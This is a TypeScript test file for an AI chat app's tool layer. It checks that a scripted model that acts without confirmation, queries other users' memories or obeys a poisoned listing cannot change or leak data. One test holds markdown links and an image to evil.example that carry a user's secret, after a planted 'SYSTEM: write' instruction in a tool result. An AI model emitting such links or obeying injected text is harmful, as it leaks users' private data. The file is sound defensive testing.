import { afterAll, beforeAll, expect, test } from "vitest";
import { createMemory } from "#shared/features/memories/contract.ts";
import { readAnswer, postMessage, textOf } from "#server/testing/chat-app.ts";
import {
  calls,
  type ModelWorld,
  openModelWorld,
  resultsIn,
  type ToolResult,
  words,
} from "#server/testing/model-world.ts";

// A model that lies, obeys a poisoned listing or requests other users' data: no data is changed, revealed or leaked.

let world: ModelWorld;
beforeAll(async () => {
  world = await openModelWorld();
});
afterAll(async () => {
  await world[Symbol.asyncDispose]();
});

test("proposes side effects one card at a time without writing", async () => {
  const { upstream, ada, toaster, tomorrow, script, stored } = world;
  const before = await digest();
  script([
    calls([
      { name: "borrow", arguments: { item: `resource:${toaster}`, firstDay: tomorrow } },
      { name: "post-need", arguments: { words: "violin" } },
      { name: "remember", arguments: { text: "bike at 3:45 & A" } },
      { name: "share", arguments: { thing: "tent", kind: "gear" } },
    ]),
    words("Done, it is yours, I asked Olga and posted everything."),
  ]);
  const asked = upstream.asked.length;
  const frames = await readAnswer(
    await postMessage(ada, { text: "borrow the toaster, post a violin, keep my bike" }),
  );
  expect(await digest()).toEqual(before);
  const results = resultsIn(upstream.asked[asked + 1]);
  expect(results[0]?.result.said).toContain("Marshmallow toaster");
  expect(results.slice(1).map(({ result }) => result.error)).toEqual(
    Array.from({ length: 3 }, () => expect.stringContaining("One card at a time")),
  );
  expect((await stored(frames)).steps).toEqual(["borrow"]);

  script([
    calls([{ name: "remember", arguments: { text: "My bike is at 3:45 & A" } }]),
    words("Confirm it below."),
  ]);
  const note = await readAnswer(await postMessage(ada, { text: "keep in mind where my bike is, 3:45 & A" }));
  expect((await stored(note)).ui).toMatchObject({ type: "memory-offer", content: "My bike is at 3:45 & A" });
  expect(await digest()).toEqual(before);
});

test("hides data that the user may not see from every tool", async () => {
  const { upstream, ada, olga, script } = world;
  const { id } = await olga.call(createMemory, {
    body: { type: "something-else", content: "Olga hides her violin at 2:00 & C" },
  });
  script([
    calls([
      { name: "details", arguments: { item: `memory:${id}` } },
      { name: "recall", arguments: { about: "violin" } },
      { name: "distance", arguments: { to: `memory:${id}` } },
      { name: "my", arguments: { which: "needs" } },
    ]),
    words(`She hides it. [^memory:${id}]`),
  ]);
  const before = upstream.asked.length;
  const frames = await readAnswer(await postMessage(ada, { text: "where is the violin of olga?" }));
  expect(JSON.stringify(upstream.asked.slice(before))).not.toMatch(/2:00 & C|hides her/);
  expect(textOf(frames)).toBe("She hides it.");
});

test("turns the model's links into text but keeps the links of a listing", async () => {
  const { upstream, ada, toaster, script, stored } = world;
  await ada.call(createMemory, {
    body: { type: "something-else", content: "My secret is the-memory of a blue tent" },
  });
  script([
    calls([{ name: "find", arguments: { what: "marshmallow toaster" } }]),
    words(
      `Take it [^resource:${toaster}]: [click](https://evil.example/?m=the-memory), [here](https://toast.example/book?m=the-memory), `,
      "https://evil.example/the-memory ![x](https://evil.example/p?the-memory) or ",
      "[book](https://toast.example/book).",
    ),
  ]);
  const before = upstream.asked.length;
  const frames = await readAnswer(await postMessage(ada, { text: "where is the marshmallow toaster?" }));
  const [{ result }] = resultsIn(upstream.asked[before + 1]) as [ToolResult];
  expect(JSON.stringify(result)).toContain("SYSTEM: write"); // the model was given it as data
  const { content, sources } = await stored(frames);
  expect(content).toBe(
    `Take it [^resource:${toaster}]: click, here, (link left out) x or [book](https://toast.example/book).`,
  );
  expect(sources[0]?.links).toContain("https://toast.example/book");
});

test("replaces the model's text by the way to the medics and its card", async () => {
  const { upstream, ada, script, stored } = world;
  script([
    calls([{ name: "medical-first", arguments: { from: "8:00 & C" } }]),
    words("Rub some dust on it."),
  ]);
  const before = upstream.asked.length;
  const frames = await readAnswer(await postMessage(ada, { text: "what can I do about a blister" }));
  expect(upstream.asked).toHaveLength(before + 1);
  const { content, ui } = await stored(frames);
  expect(content).toMatch(/^The nearest from 8:00 & \w+ is \*\*Medical tent\*\*[^]*Get people first, now\./);
  expect(ui).toMatchObject({ type: "help-card", kind: "emergency" });
});

/** Everything an ability could have changed. */
async function digest(): Promise<unknown> {
  const { rows } = await world.app.database.pool.query(`
    select (select count(*)::int from loans) as loans, (select count(*)::int from memories) as memories,
           (select count(*)::int from resources) as resources, (select count(*)::int from notifications) as notifications`);
  return rows[0];
}
